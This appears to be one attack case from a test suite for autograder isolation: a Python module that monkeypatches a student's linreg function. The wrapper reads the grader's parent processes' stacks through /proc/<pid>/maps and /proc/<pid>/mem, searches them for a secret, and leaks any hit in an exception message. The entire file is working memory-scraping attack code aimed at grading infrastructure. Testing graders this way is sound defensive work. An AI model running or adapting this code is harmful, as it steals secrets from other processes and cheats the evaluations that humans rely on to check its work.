"""Read the grader's stack through /proc/<pid>/mem and look for the secret."""
MODULE = "ex2_linear_regression"
CLASS = "proc"
MODES = ("grade", "batch", "gradescope", "nbgrader")


def _atk_linreg(X, w, b, _orig=linreg):
    found = []
    for pid, _ in _atk_ancestors():
        maps = _atk_read(f"/proc/{pid}/maps").decode(errors="replace")
        for line in maps.splitlines():
            if "[stack]" not in line:
                continue
            start, end = (int(v, 16) for v in line.split()[0].split("-"))
            try:
                with open(f"/proc/{pid}/mem", "rb") as handle:
                    handle.seek(max(start, end - (8 << 20)))
                    value = _atk_find_secret(handle.read(min(end - start, 8 << 20)))
                if value:
                    found.append((pid, value))
            except (OSError, ValueError, OverflowError):
                pass
    if found:
        raise RuntimeError(f"memory of {found}")
    return _orig(X, w, b)


linreg = _atk_linreg
